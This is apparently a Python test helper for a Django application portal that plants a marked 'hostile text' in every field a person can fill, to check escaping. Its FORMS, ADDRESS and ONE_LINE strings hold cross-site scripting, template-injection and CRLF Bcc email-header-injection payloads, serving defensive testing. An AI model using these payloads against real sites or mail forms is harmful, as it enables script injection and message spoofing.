"""Hostile texts: one for each text field that a person can fill, recognisable by its own mark."""

from typing import Final

from django.apps import apps
from django.contrib.postgres.fields import ArrayField
from django.db import models

MARK: Final = "zq"
"""Prefix of every hostile text, followed by three digits. No word, digest or code contains it."""

NO_PERSON_WRITES: Final = {
    "accounts.User.password": "unusable: people sign in by a code",
    "journal.Entry.seal": "a code of the portal's processes",
    "documents.Upload.clean_sha256": "a digest",
    "documents.Upload.file": "named by the portal",
    "documents.Upload.kind": "a code",
    "documents.Upload.media_type": "found by the inspection",
    "documents.Upload.neutralised": "codes of the inspection",
    "documents.Upload.original": "named by the portal",
    "documents.Upload.sha256": "a digest",
    "documents.Upload.small_thumbnail": "named by the portal",
    "documents.Upload.thumbnail": "named by the portal",
    "documents.Upload.warnings": "codes of the inspection",
    "dossiers.Dossier.file": "named by the portal",
    "dossiers.Dossier.number": "a receipt's number",
    "dossiers.Dossier.sha256": "a digest",
    "dossiers.Dossier.starts": "pages",
    "dossiers.LostDossier.sha256": "a digest",
    "dossiers.RemadeReceipt.sha256": "a digest",
    "dossiers.Seal.canonical": "made of the answers, which are planted",
    "dossiers.Seal.digest": "a digest",
    "dossiers.Seal.salt": "drawn at random",
    "dossiers.SignedReceipt.code": "drawn at random",
    "dossiers.SignedReceipt.file": "named by the portal",
    "dossiers.SignedReceipt.number": "a receipt's number",
    "dossiers.SignedReceipt.sha256": "a digest",
    "dossiers.SignedReceipt.twin": "made of the receipt's facts",
    "journal.Entry.action": "a code",
    "journal.Entry.subject_id": "a key",
    "journal.Entry.subject_kind": "a model's name",
    "journal.Link.commitment": "a digest",
    "journal.Link.digest": "a digest",
    "offers.Offer.currency": "three letters of ISO 4217",
    "offers.Offer.number": "letters, figures and hyphens, by a constraint",
    "offers.Offer.time_zone": "one of the zones that the system knows",
    "offers.OpenPoint.code": "a code of the import",
    "offers.Programme.code": "capitals, figures and hyphens, by a constraint",
    "offers.RulebookVersion.criteria": "its clauses are planted where it is written; see clause.*",
    "offers.RulebookVersion.digest": "a digest",
    "outbox.Delivery.key": "a key",
    "outbox.Delivery.kind": "a code",
    "outbox.Delivery.subject_id": "a key",
    "outbox.Delivery.subject_kind": "a model's name",
    "outbox.Message.html": "made of what is planted, and shown on no page",
    "outbox.Message.message_id": "made by the portal",
    "outbox.Message.report_code": "figures and points, by their reading",
    "outbox.Message.subject": "made of what is planted",
    "outbox.Message.text": "made of what is planted",
    "outbox.Message.to_address": "the address of the account, which is planted",
    "outbox.MessageAttachment.filename": "a receipt's number",
    "outbox.MessageAttachment.media_type": "a code",
    "outbox.MessageAttachment.storage_alias": "a setting",
    "outbox.MessageAttachment.storage_name": "named by the portal",
    "privacy.Erasure.files": "named by the portal",
    "profiles.NoticeAcceptance.notice": "a code",
    "profiles.NoticeAcceptance.version": "a code",
    "profiles.Profile.phone": "figures, by its field",
    "register.Participation.key_name": "a setting",
    "register.Participation.shorter": "digests",
    "register.Participation.whole": "a digest: no name is kept",
    "register.Removal.whole": "a digest",
    "review.BulkItem.found": "a code",
    "review.BulkItem.refusal": "a code",
    "review.BulkRun.action": "a code",
    "review.DecisionBatch.returned_for": "a code",
    "review.DecisionItem.action": "a code",
    "review.DecisionItem.letter": "a digest",
    "review.DecisionItem.refusal": "a code",
    "review.Evidence.kind": "a code",
    "review.ExportOrder.file_format": "a code",
    "review.ExportOrder.file_name": "named by the portal",
    "review.ExportOrder.language": "a code",
    "review.ExportOrder.refusal": "a code",
    "review.Shortlist.digest": "a digest",
    "review.ShortlistExport.file_format": "a code",
    "review.ShortlistExport.language": "a code",
    "review.ShortlistExport.sha256": "a digest",
    "review.ShortlistRow.reserve": "a code",
    "submissions.Arrival.declarations": "codes",
    "submissions.Arrival.reason": "a code",
    "submissions.Arrival.witness": "a digest",
    "submissions.ComplementRequest.sections": "codes",
    "submissions.Draft.answers": "each answer is planted; see answer.*",
    "submissions.FiledDocument.sha256": "a digest",
    "submissions.PendingUpload.facts": "figures and codes of the inspection",
    "submissions.PendingUpload.file": "named by the portal",
    "submissions.PendingUpload.reason_code": "a code",
    "submissions.PendingUpload.seen": "an identifier of the portal",
    "submissions.PendingUpload.sha256": "a digest",
    "submissions.Receipt.number": "made by the portal",
    "submissions.Ruling.kind": "a code",
    "submissions.Submission.filed_name": "made of the sealed names, which are planted",
    "submissions.Submission.filed_outcome": "a code",
    "submissions.Verdict.blocking": "places",
    "submissions.Verdict.facts_digest": "a digest",
    "submissions.Verdict.outcome": "a code",
    "submissions.Verdict.rulebook_digest": "a digest",
    "transparency.Leaf.number": "a receipt's number",
    "transparency.Leaf.text": "digests",
    "transparency.Root.hash": "a digest",
    "transparency.Root.key_id": "a digest",
}
"""Text columns that hold nothing a person enters, with the reason. Columns with choices are not listed."""

ELSEWHERE: Final = (
    *(f"answer.{name}" for name in ("first_name", "last_name", "address_line", "city", "postal_code")),
    *(
        "answer.field_of_study",
        "answer.institution",
        "answer.other_languages",
        "answer.grid",
        "answer.file_name",
    ),
    *("clause.reference", "clause.text"),
    "typed",
)
"""Texts that have no column: typed into forms, or stored inside other texts (answers, seals, an offer's criteria)."""


def texts_of_models() -> list[str]:
    """Return every text column of the portal's models, without those that hold a choice."""
    return sorted(
        f"{model._meta.label}.{field.name}"
        for model in apps.get_models()
        if model.__module__.startswith(("intake.", "offers."))
        for field in model._meta.concrete_fields
        if isinstance(
            field, (models.CharField, models.TextField, models.JSONField, models.FileField, ArrayField)
        )
        if not field.choices
    )


PLANTED: Final = (*(name for name in texts_of_models() if name not in NO_PERSON_WRITES), *ELSEWHERE)
FORMS: Final = (
    "{0}<script>{0}()</script><img src={0} onerror={0}()>\"'&amp;{{{{7*7}}}}{{% now 'Y' %}}\r\nBcc: {0}@evil.invalid",
    "{0}<script>{0}()</script>\"'&{{{{7*7}}}}\r\nBcc:{0}",
    "{0}<i onclick={0}>\"'&{{{{7}}}}",
    "{0}<b>\"'",
)
"""Longest first; the last one fits in ten characters."""
ADDRESS: Final = '"{0}<i/onclick={0}>\'&{{{{7*7}}}}"@exemple.invalid'
ONE_LINE: Final = "{0}<script>{0}()</script><img src={0} onerror={0}()>\"'&amp;{{{{7*7}}}}.pdf"


def token_of(name: str) -> str:
    """Return the mark of the hostile text `name`."""
    return f"{MARK}{PLANTED.index(name):03}"


def name_of(token: str) -> str:
    """Return the name from which `token_of` made `token`."""
    return PLANTED[int(token.removeprefix(MARK))]


def wholes_of(token: str) -> list[str]:
    """Return the lines of each form of a hostile text, longest first, without spaces."""
    forms = [*FORMS, ONE_LINE, ADDRESS]
    lines = {"".join(line.split()) for form in forms for line in form.format(token).splitlines()}
    return sorted(lines, key=len, reverse=True)


def hostile(name: str, room: int = 250) -> str:
    """Return the hostile text of `name` in the longest form that fits in `room` characters."""
    if name in {"documents.Upload.original_name", "answer.file_name"}:
        return ONE_LINE.format(token_of(name))  # a file's name is reduced to one line on receipt
    if name.rpartition(".")[2] in {"email", "contact_email"}:
        return f'"{token_of(name)}<i/onclick={token_of(name)}>\'&{{{{7*7}}}}"@exemple.invalid'
    fitting = (text for form in FORMS if len(text := form.format(token_of(name))) <= room)
    return next(fitting)
